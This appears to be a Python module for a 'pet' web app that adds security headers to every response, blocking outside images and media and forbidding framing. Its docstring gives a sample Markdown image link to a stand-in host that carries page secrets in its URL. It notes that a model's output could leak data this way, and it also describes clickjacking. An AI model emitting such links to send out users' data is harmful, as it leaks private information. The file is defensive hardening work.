"""Headers on every response: what the page may load, and who may frame it.

Replies and tool output are shown as Markdown, so a note or a model could
write `![](http://elsewhere/?secret)` and the browser would fetch it,
telling another machine what was on the page. Images and sound may come
only from the pet itself (and inline data), so nothing rendered reaches out.

No page may show the pet in a frame: a page elsewhere could otherwise lay
its own buttons over the pet's and have the person click "forget" or
"allow" unawares (clickjacking).
"""

from __future__ import annotations

from pet.api.limits import ASGIApp, Message, Receive, Scope, Send

FRAME_POLICY = "frame-ancestors 'none'"
CONTENT_POLICY = f"img-src 'self' data: blob:; media-src 'self' data: blob:; {FRAME_POLICY}"
HEADERS = (
    (b"content-security-policy", CONTENT_POLICY.encode()),
    (b"x-frame-options", b"DENY"),
    (b"x-content-type-options", b"nosniff"),
    (b"referrer-policy", b"same-origin"),
)


class SafeHeaders:
    """Adds HEADERS to every HTTP response that does not set them itself; a
    response's own policy gets the frame rule, its own frame option is DENY."""

    def __init__(self, app: ASGIApp):
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def with_headers(message: Message) -> None:
            if message["type"] == "http.response.start":
                headers = [_with_frame_rule(name, value) for name, value in message.get("headers", [])]
                present = {name.lower() for name, _ in headers}
                headers.extend((name, value) for name, value in HEADERS if name not in present)
                message = {**message, "headers": headers}
            await send(message)

        await self.app(scope, receive, with_headers)


def _with_frame_rule(name: bytes, value: bytes) -> tuple[bytes, bytes]:
    if name.lower() == b"x-frame-options":
        return name, b"DENY"
    if name.lower() == b"content-security-policy" and b"frame-ancestors" not in value:
        return name, value.rstrip(b"; ") + f"; {FRAME_POLICY}".encode()
    return name, value
